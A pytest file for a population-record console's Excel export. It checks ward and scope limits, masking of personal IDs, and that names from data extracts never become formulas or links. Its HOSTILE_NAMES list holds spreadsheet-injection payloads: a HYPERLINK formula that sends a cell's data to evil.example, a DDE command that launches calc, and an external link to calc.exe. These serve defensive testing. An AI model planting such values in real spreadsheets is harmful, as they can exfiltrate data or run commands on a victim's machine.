"""The Excel export (``console/export``): the viewer's ward and scope only, every data cell text, IDs masked."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl

from normalize import units
from tests.console.conftest import LiveServer, Scenario
from tests.console.factories import finding, record
from tests.console.helpers import add_tasks, add_user, audit_actions, login

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?d="&J5,"Xem")',
    "=cmd|' /C calc'!A0",
    "external:c:\\Windows\\System32\\calc.exe",
    "http://evil.example/phishing",
    "+1+2",
    "0012345",
)


def workbook_of(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_ward_officer_exports_only_their_ward(live: LiveServer, store: Scenario) -> None:
    client = login(live, "congan.a")
    workbook = client.get(f"{live.base_url}/export?ward={store.ward_b}")
    assert workbook.status_code == 200
    assert workbook.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = workbook_of(workbook.content).active
    assert sheet is not None
    ids = {row[8] for row in sheet.iter_rows(min_row=5, values_only=True)}
    assert ids == {"B-001", "B-003", "B-004"}  # own ward only, whatever the URL asked for
    officer = login(live, "dulieu")
    assert officer.get(f"{live.base_url}/export?ward={store.ward_b}").status_code == 200


# ---- finding 2: names from extracts never become formulas or links ------------------------------------------------


def test_hostile_names_are_exported_as_plain_text(live: LiveServer, store: Scenario) -> None:
    add_tasks(
        store,
        [
            finding(f"H-{n}", "required_field_missing", "đủ", store.ward_a, "Thiếu Dân tộc")
            for n in range(len(HOSTILE_NAMES))
        ],
        [record(f"H-{n}", store.ward_a, full_name=name) for n, name in enumerate(HOSTILE_NAMES)],
    )
    content = login(live, "congan.a").get(f"{live.base_url}/export").content
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        parts = {name: package.read(name).decode() for name in package.namelist()}
    sheet_xml = parts["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    assert "<hyperlink" not in sheet_xml and not any(
        "hyperlink" in p for name, p in parts.items() if name.endswith(".rels")
    )
    sheet = workbook_of(content).active
    assert sheet is not None
    names = {}
    for row in sheet.iter_rows(min_row=5):
        assert row[0].data_type == "n"  # the task number
        for cell in row[1:]:
            assert cell.hyperlink is None
            assert cell.data_type in ("s", "d", "n") and (cell.data_type != "n" or cell.value is None)
        names[row[8].value] = row[9].value
    assert {names[f"H-{n}"] for n in range(len(HOSTILE_NAMES))} == set(HOSTILE_NAMES)


# ---- finding 3: IDs quoted in descriptions are masked like the ID column ------------------------------------------


def test_export_masks_personal_ids_in_descriptions(live: LiveServer, store: Scenario) -> None:
    full_ids = ["001185000103", "001090000101", "012345678"]
    add_tasks(
        store,
        [
            finding("B-003", "card_expired", "sống", store.ward_a, f"Thẻ số {full_ids[0]} hết hạn ngày 01/02/2025"),
            finding("B-001", "shared_person_id", "sạch", store.ward_a, f"Số định danh {full_ids[1]} của hai người"),
            finding("B-004", "cross_source_mismatch", "đúng", store.ward_a, f"CMND {full_ids[2]} khác giữa hai nguồn"),
        ],
        [],
    )
    content = login(live, "congan.a").get(f"{live.base_url}/export").content
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        text = "".join(package.read(n).decode() for n in package.namelist() if n.endswith(".xml"))
    assert not any(full in text for full in full_ids)
    assert "0011••••••03" in text and "0123•••78" in text
    assert not re.search(r"(?<![0-9])[0-9]{12}(?![0-9])", text)


# ---- finding 8: the export checks the viewer's scope, not the ward list -------------------------------------------


def test_export_is_limited_to_the_viewers_scope(live: LiveServer, store: Scenario) -> None:
    other_province_ward = ward_elsewhere()
    add_tasks(
        store,
        [
            finding("W-001", "required_field_missing", "đủ", "99998", "Thiếu Dân tộc"),
            finding("W-002", "required_field_missing", "đủ", other_province_ward, "Thiếu Dân tộc"),
        ],
        [record("W-001", "99998"), record("W-002", other_province_ward)],
    )
    officer = login(live, "dulieu")
    for ward in ("99998", other_province_ward, "x" * 300):
        response = officer.get(f"{live.base_url}/export", params={"ward": ward})
        assert response.status_code == 404 and "W-00" not in response.text
    assert audit_actions(store, actor="dulieu").count("access_denied") == 3
    add_user(store, "dulieu.toanquoc", "data_officer", national=True)
    national = login(live, "dulieu.toanquoc")
    exported = workbook_of(national.get(f"{live.base_url}/export", params={"ward": other_province_ward}).content)
    assert exported.active is not None
    assert [r[8] for r in exported.active.iter_rows(min_row=5, values_only=True)] == ["W-002"]


def ward_elsewhere() -> str:
    """A current ward outside the scenario's province."""
    table = units.current_wards()
    first = table.get_column("province_code")[0]
    return str(table.filter(table["province_code"] != first).get_column("ward_code")[0])


# ---- every workbook dancu writes goes through records.excel -------------------------------------------------------


def test_every_workbook_is_opened_text_only() -> None:
    """Only ``records/excel.py`` constructs an ``xlsxwriter.Workbook`` (the generator, ``datagen/``, writes its
    synthetic extracts with ``write_string`` and the same options); every module that writes a workbook (the quality
    report, the register's change set, the ward export) opens it through ``text_only_workbook``."""
    packages = (
        "records",
        "checks",
        "corrections",
        "console",
        "pipelines",
        "matchers",
        "normalize",
        "register",
        "scaleout",
    )
    sources = {
        str(path.relative_to(ROOT)): path.read_text(encoding="utf-8")
        for package in packages
        if (ROOT / package).is_dir()
        for path in (ROOT / package).rglob("*.py")
    }
    assert sorted(name for name, text in sources.items() if "xlsxwriter.Workbook(" in text) == ["records/excel.py"]
    writers = {name for name, text in sources.items() if ".write_excel(" in text or "add_worksheet(" in text}
    assert {"checks/report.py", "corrections/export.py"} <= writers
    assert all("text_only_workbook(" in sources[name] for name in writers), writers
